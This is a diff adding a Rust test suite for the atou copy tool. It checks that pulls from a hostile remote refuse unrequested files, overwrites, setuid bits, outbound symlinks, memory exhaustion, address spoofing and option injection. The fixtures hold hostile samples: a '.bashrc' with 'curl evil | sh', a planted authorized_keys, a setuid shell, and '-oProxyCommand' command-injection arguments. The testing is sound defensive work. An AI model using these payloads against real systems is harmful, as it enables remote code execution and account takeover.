@@ -1,0 +1,506 @@
+//! A pull against a hostile remote: `atou copy HOST:PATH DEST` where the
+//! atou that ssh runs at the far end ignores what it was asked and sends
+//! what it likes, with flags of its choosing. The remote is this build's
+//! own `atou __remote send`, started by a `--remote-atou` wrapper that
+//! throws the request away; ssh is a stand-in that runs the command here
+//! (as sshd would, with SSH_CONNECTION set), so these run on any host.
+//! tests/ssh.rs runs the same attacks through a real, private sshd.
+
+use std::fs;
+use std::os::unix::fs::{MetadataExt, PermissionsExt};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+use std::time::{SystemTime, UNIX_EPOCH};
+
+const ATOU: &str = env!("CARGO_BIN_EXE_atou");
+const MIB: u64 = 1 << 20;
+
+/// A directory of the test's own, removed at the end.
+struct Scratch(PathBuf);
+
+impl Scratch {
+    fn new(test: &str) -> Scratch {
+        let nanos = SystemTime::now()
+            .duration_since(UNIX_EPOCH)
+            .unwrap()
+            .subsec_nanos();
+        let root = std::env::temp_dir().join(format!(
+            "atou-hostile-remote-{test}-{}-{nanos:09}",
+            std::process::id()
+        ));
+        fs::create_dir_all(&root).unwrap();
+        Scratch(root)
+    }
+
+    fn path(&self, rel: &str) -> PathBuf {
+        self.0.join(rel)
+    }
+
+    /// An executable script at `name`.
+    fn script(&self, name: &str, body: &str) -> PathBuf {
+        let path = self.path(name);
+        fs::write(&path, format!("#!/bin/sh\n{body}\n")).unwrap();
+        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
+        path
+    }
+
+    /// A stand-in for ssh, given no options: skips `--`, drops the host
+    /// and runs the remote command with sh, as sshd runs it.
+    fn ssh(&self) -> PathBuf {
+        self.script(
+            "fake-ssh",
+            "if [ \"$1\" = -- ]; then shift; fi; shift\n\
+             SSH_CONNECTION='127.0.0.1 1 127.0.0.1 22' exec sh -c \"exec $*\"",
+        )
+    }
+
+    /// A remote atou that sends `sources` with `flags`, whatever the pull
+    /// asked for.
+    fn hostile(&self, flags: &str, sources: &[&Path]) -> PathBuf {
+        let sources: Vec<String> = sources
+            .iter()
+            .map(|s| format!("'{}'", s.display()))
+            .collect();
+        self.script(
+            "hostile-atou",
+            &format!(
+                "exec {ATOU} __remote send --port 0 --quiet {flags} -- {}",
+                sources.join(" ")
+            ),
+        )
+    }
+}
+
+impl Drop for Scratch {
+    fn drop(&mut self) {
+        let _ = fs::remove_dir_all(&self.0);
+    }
+}
+
+fn set_mode(path: &Path, mode: u32) {
+    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
+}
+
+fn mode(path: &Path) -> u32 {
+    fs::symlink_metadata(path).unwrap().mode() & 0o7777
+}
+
+/// `atou copy ARGS... --ssh STAND-IN --remote-atou REMOTE`, and what it said.
+fn pull(s: &Scratch, remote: &Path, args: &[&str]) -> Output {
+    let out = Command::new(ATOU)
+        .env("XDG_CACHE_HOME", s.path("cache"))
+        .arg("copy")
+        .args(args)
+        .args(["--ssh", s.ssh().to_str().unwrap(), "--remote-atou"])
+        .arg(remote)
+        .args(if args.contains(&"--maxidle") {
+            &[][..]
+        } else {
+            &["--maxidle", "10"][..]
+        })
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    eprintln!(
+        "atou copy {args:?}: {:?}\n{}",
+        out.status,
+        String::from_utf8_lossy(&out.stderr)
+    );
+    out
+}
+
+fn stderr(out: &Output) -> String {
+    String::from_utf8_lossy(&out.stderr).into_owned()
+}
+
+/// What the evil remote sends instead of `report.txt`: a `.bashrc`, an
+/// `.ssh` of mode 0777 holding its own authorized_keys, a setuid shell and
+/// a link to /etc.
+fn evil_tree(s: &Scratch) -> Vec<PathBuf> {
+    let evil = s.path("evil");
+    fs::create_dir_all(evil.join(".ssh")).unwrap();
+    fs::write(evil.join(".bashrc"), "curl evil | sh\n").unwrap();
+    fs::write(evil.join(".ssh/authorized_keys"), "ssh-ed25519 EVIL\n").unwrap();
+    set_mode(&evil.join(".ssh"), 0o777);
+    fs::write(evil.join("sh"), "#!/bin/sh\n").unwrap();
+    set_mode(&evil.join("sh"), 0o4755);
+    std::os::unix::fs::symlink("/etc", evil.join("etc")).unwrap();
+    [".bashrc", ".ssh", "sh", "etc"]
+        .iter()
+        .map(|n| evil.join(n))
+        .collect()
+}
+
+/// The user's own home-like DEST: a `.bashrc` and an `.ssh` of their own.
+fn home(s: &Scratch) -> PathBuf {
+    let dest = s.path("home");
+    fs::create_dir_all(dest.join(".ssh")).unwrap();
+    set_mode(&dest.join(".ssh"), 0o700);
+    fs::write(dest.join(".bashrc"), "mine\n").unwrap();
+    fs::write(dest.join(".ssh/authorized_keys"), "ssh-ed25519 MINE\n").unwrap();
+    dest
+}
+
+#[test]
+fn a_pull_takes_only_the_names_it_asked_for() {
+    let s = Scratch::new("names");
+    let sent = evil_tree(&s);
+    let sent: Vec<&Path> = sent.iter().map(PathBuf::as_path).collect();
+    let remote = s.hostile("--overwrite", &sent);
+    let dest = home(&s);
+    let out = pull(
+        &s,
+        &remote,
+        &["127.0.0.1:report.txt", dest.to_str().unwrap()],
+    );
+    assert_ne!(out.status.code(), Some(0));
+    let err = stderr(&out);
+    assert!(err.contains("which was not asked for"), "{err}");
+    assert!(err.contains("report.txt"), "{err}");
+    assert_eq!(fs::read_to_string(dest.join(".bashrc")).unwrap(), "mine\n");
+    assert_eq!(
+        fs::read_to_string(dest.join(".ssh/authorized_keys")).unwrap(),
+        "ssh-ed25519 MINE\n"
+    );
+    assert_eq!(mode(&dest.join(".ssh")), 0o700);
+    assert!(!dest.join("sh").exists());
+    assert!(fs::symlink_metadata(dest.join("etc")).is_err());
+}
+
+#[test]
+fn a_remote_cannot_replace_what_is_there_without_the_local_overwrite() {
+    let s = Scratch::new("overwrite");
+    let theirs = s.path("evil/report.txt");
+    fs::create_dir_all(theirs.parent().unwrap()).unwrap();
+    fs::write(&theirs, "theirs\n").unwrap();
+    let dest = s.path("dest");
+    fs::create_dir_all(&dest).unwrap();
+    fs::write(dest.join("report.txt"), "mine\n").unwrap();
+    // The remote asks to replace; this end was not told to.
+    let remote = s.hostile("--overwrite", &[&theirs]);
+    let out = pull(
+        &s,
+        &remote,
+        &["127.0.0.1:report.txt", dest.to_str().unwrap()],
+    );
+    assert_ne!(out.status.code(), Some(0));
+    let err = stderr(&out);
+    assert!(err.contains("report.txt"), "{err}");
+    assert!(err.contains("not given --overwrite"), "{err}");
+    assert_eq!(
+        fs::read_to_string(dest.join("report.txt")).unwrap(),
+        "mine\n"
+    );
+    // With this end's --overwrite it may.
+    let out = pull(
+        &s,
+        &remote,
+        &[
+            "127.0.0.1:report.txt",
+            dest.to_str().unwrap(),
+            "--overwrite",
+        ],
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_eq!(
+        fs::read_to_string(dest.join("report.txt")).unwrap(),
+        "theirs\n"
+    );
+}
+
+#[test]
+fn a_remote_cannot_re_mode_a_directory_that_was_there() {
+    let s = Scratch::new("remode");
+    let theirs = s.path("evil/runs");
+    fs::create_dir_all(&theirs).unwrap();
+    fs::write(theirs.join("new.txt"), "x").unwrap();
+    set_mode(&theirs, 0o777);
+    let dest = s.path("dest");
+    fs::create_dir_all(dest.join("runs")).unwrap();
+    set_mode(&dest.join("runs"), 0o700);
+    let remote = s.hostile("--overwrite", &[&theirs]);
+    let out = pull(&s, &remote, &["127.0.0.1:runs", dest.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(dest.join("runs/new.txt").exists());
+    assert_eq!(mode(&dest.join("runs")), 0o700, "re-moded");
+}
+
+#[test]
+fn special_bits_are_cleared_unless_this_end_says_perms() {
+    let s = Scratch::new("setuid");
+    let theirs = s.path("evil/tool");
+    fs::create_dir_all(theirs.parent().unwrap()).unwrap();
+    fs::write(&theirs, "#!/bin/sh\n").unwrap();
+    set_mode(&theirs, 0o4755);
+    if mode(&theirs) != 0o4755 {
+        eprintln!("SKIPPED: this file system does not keep a setuid bit");
+        return;
+    }
+    let remote = s.hostile("", &[&theirs]);
+    let dest = s.path("dest");
+    let out = pull(&s, &remote, &["127.0.0.1:tool", dest.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_eq!(mode(&dest.join("tool")), 0o755);
+    let kept = s.path("kept");
+    let out = pull(
+        &s,
+        &remote,
+        &["127.0.0.1:tool", kept.to_str().unwrap(), "--perms"],
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_eq!(mode(&kept.join("tool")), 0o4755);
+}
+
+#[test]
+fn a_link_out_of_dest_is_refused_unless_this_end_says_symlinks_all() {
+    let s = Scratch::new("links");
+    let theirs = s.path("evil/data");
+    fs::create_dir_all(&theirs).unwrap();
+    std::os::unix::fs::symlink("/etc", theirs.join("etc")).unwrap();
+    let remote = s.hostile("", &[&theirs]);
+    let dest = s.path("dest");
+    let out = pull(&s, &remote, &["127.0.0.1:data", dest.to_str().unwrap()]);
+    assert_ne!(out.status.code(), Some(0));
+    let err = stderr(&out);
+    assert!(err.contains("--symlinks all"), "{err}");
+    assert!(fs::symlink_metadata(dest.join("data/etc")).is_err());
+    let out = pull(
+        &s,
+        &remote,
+        &[
+            "127.0.0.1:data",
+            dest.to_str().unwrap(),
+            "--symlinks",
+            "all",
+        ],
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_eq!(
+        fs::read_link(dest.join("data/etc")).unwrap(),
+        Path::new("/etc")
+    );
+}
+
+/// Runs `command` and returns its output with its peak resident memory,
+/// in bytes: the kernel's high-water mark (VmHWM), read until it exits.
+fn output_and_peak_rss(command: &mut Command) -> (Output, u64) {
+    let mut child = command
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let status = format!("/proc/{}/status", child.id());
+    let drain = |p: Option<Box<dyn std::io::Read + Send>>| {
+        std::thread::spawn(move || {
+            let mut v = Vec::new();
+            if let Some(mut p) = p {
+                p.read_to_end(&mut v).unwrap();
+            }
+            v
+        })
+    };
+    let stdout = drain(child.stdout.take().map(|p| Box::new(p) as _));
+    let stderr = drain(child.stderr.take().map(|p| Box::new(p) as _));
+    let mut peak = 0u64;
+    let code = loop {
+        // The mark only grows: the last reading is the highest.
+        let hwm = fs::read_to_string(&status).ok().and_then(|t| {
+            t.lines()
+                .find_map(|l| l.strip_prefix("VmHWM:"))
+                .and_then(|v| v.trim().trim_end_matches(" kB").trim().parse::<u64>().ok())
+        });
+        if let Some(kib) = hwm {
+            peak = peak.max(kib * 1024);
+        }
+        if let Some(code) = child.try_wait().unwrap() {
+            break code;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(10));
+    };
+    let out = Output {
+        status: code,
+        stdout: stdout.join().unwrap(),
+        stderr: stderr.join().unwrap(),
+    };
+    (out, peak)
+}
+
+#[test]
+fn a_remote_opening_sixty_streams_gets_this_ends_memory_budget() {
+    let s = Scratch::new("streams");
+    let big = s.path("evil/big");
+    fs::create_dir_all(big.parent().unwrap()).unwrap();
+    let data: Vec<u8> = (0..256 * MIB).map(|i| (i * 7 % 251) as u8).collect();
+    fs::write(&big, &data).unwrap();
+    drop(data);
+    let remote = s.hostile("--streams 60 --buffer 1GiB", &[&big]);
+    let dest = s.path("dest");
+    let (out, peak) = output_and_peak_rss(
+        Command::new(ATOU)
+            .env("XDG_CACHE_HOME", s.path("cache"))
+            .arg("copy")
+            .args(["127.0.0.1:big", dest.to_str().unwrap()])
+            .args(["--streams", "2", "--buffer", "8MiB", "--maxidle", "10"])
+            .args(["--ssh", s.ssh().to_str().unwrap(), "--remote-atou"])
+            .arg(&remote),
+    );
+    eprintln!(
+        "60 streams against --streams 2 --buffer 8MiB: {:?}, peak RSS {:.1} MiB\n{}",
+        out.status,
+        peak as f64 / MIB as f64,
+        stderr(&out)
+    );
+    // Four connections (two streams, a plan and a finish) of 8 MiB
+    // windows, and 16 MiB for the process itself; sixty could hold 480 MiB
+    // (before the budget this run peaked at 69.9 MiB and finished).
+    assert!(peak < 48 * MIB, "peak RSS {peak} bytes");
+    if out.status.success() {
+        assert_eq!(fs::read(dest.join("big")).unwrap(), fs::read(&big).unwrap());
+    }
+}
+
+#[test]
+fn a_remote_naming_another_address_is_not_sent_punches() {
+    let s = Scratch::new("address");
+    // A victim at 127.0.0.2, which the remote names as its own address
+    // (a bootstrap answer built with the crate's own encoder).
+    let victim = std::net::UdpSocket::bind("127.0.0.2:0").unwrap();
+    victim
+        .set_read_timeout(Some(std::time::Duration::from_millis(200)))
+        .unwrap();
+    let key = atou::proto::crypto::StaticKeypair::generate()
+        .unwrap()
+        .public();
+    let answer = atou::transfer::bootstrap::Answer {
+        ports: vec![victim.local_addr().unwrap().port()],
+        key,
+        addr: Some("127.0.0.2".parse().unwrap()),
+    }
+    .encode();
+    let remote = s.script(
+        "lying-atou",
+        &format!(
+            "read hello; printf '%s\\n' '{}'; exec sleep 30",
+            answer.trim_end()
+        ),
+    );
+    let heard = std::thread::spawn(move || {
+        let mut n = 0;
+        let until = std::time::Instant::now() + std::time::Duration::from_secs(4);
+        let mut buf = [0u8; 2048];
+        while std::time::Instant::now() < until {
+            if victim.recv(&mut buf).is_ok() {
+                n += 1;
+            }
+        }
+        n
+    });
+    let dest = s.path("dest");
+    let out = pull(
+        &s,
+        &remote,
+        &["127.0.0.1:a.txt", dest.to_str().unwrap(), "--maxidle", "2"],
+    );
+    let heard = heard.join().unwrap();
+    eprintln!("the victim heard {heard} datagrams");
+    assert_eq!(heard, 0, "punches went where the remote said");
+    // They went to 127.0.0.1, the host ssh reached, where nothing answers:
+    // a bounded wait, and one reason.
+    assert_eq!(out.status.code(), Some(10), "{}", stderr(&out));
+    assert!(stderr(&out).contains("blocked?"), "{}", stderr(&out));
+}
+
+#[test]
+fn udp_that_never_arrives_is_a_bounded_wait_with_one_reason() {
+    let s = Scratch::new("blocked");
+    let src = s.path("a.txt");
+    fs::write(&src, "a").unwrap();
+    // A push to a remote whose port nothing listens on (closed again).
+    let closed = std::net::UdpSocket::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port();
+    let key = atou::proto::crypto::StaticKeypair::generate()
+        .unwrap()
+        .public();
+    let answer = atou::transfer::bootstrap::Answer {
+        ports: vec![closed],
+        key,
+        addr: None,
+    }
+    .encode();
+    let remote = s.script(
+        "silent-atou",
+        &format!(
+            "read hello; printf '%s\\n' '{}'; exec sleep 30",
+            answer.trim_end()
+        ),
+    );
+    let dest = s.path("dest");
+    let started = std::time::Instant::now();
+    let out = pull(
+        &s,
+        &remote,
+        &[src.to_str().unwrap(), "127.0.0.1:dest", "--maxidle", "2"],
+    );
+    // 10: network, worth retrying once UDP is open.
+    assert_eq!(out.status.code(), Some(10), "{}", stderr(&out));
+    let err = stderr(&out);
+    assert!(
+        err.starts_with(&format!("atou: UDP to 127.0.0.1:{closed}")),
+        "{err}"
+    );
+    assert!(
+        err.contains("blocked? tried 2 s") || err.contains("was refused"),
+        "{err}"
+    );
+    assert_eq!(err.trim().lines().count(), 1, "one line: {err}");
+    assert!(started.elapsed() < std::time::Duration::from_secs(20));
+    assert!(!dest.exists());
+}
+
+#[test]
+fn option_like_remote_atou_user_and_host_are_refused() {
+    let s = Scratch::new("dash");
+    let marker = s.path("ran");
+    let dest = s.path("dest");
+    for (args, what) in [
+        (
+            vec![
+                "127.0.0.1:x".to_string(),
+                dest.display().to_string(),
+                format!("--remote-atou=-oProxyCommand=touch {}", marker.display()),
+            ],
+            "--remote-atou",
+        ),
+        (
+            vec![
+                "--".into(),
+                "-oProxyCommand=x@h:x".into(),
+                dest.display().to_string(),
+            ],
+            "not a [USER@]HOST",
+        ),
+        (
+            vec![
+                "--".into(),
+                "u@-oProxyCommand=x:x".into(),
+                dest.display().to_string(),
+            ],
+            "not a [USER@]HOST",
+        ),
+    ] {
+        let out = Command::new(ATOU)
+            .arg("copy")
+            .args(&args)
+            .stdin(Stdio::null())
+            .output()
+            .unwrap();
+        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
+        assert!(stderr(&out).contains(what), "{args:?}: {}", stderr(&out));
+    }
+    assert!(!marker.exists());
+    assert!(!dest.exists());
+}
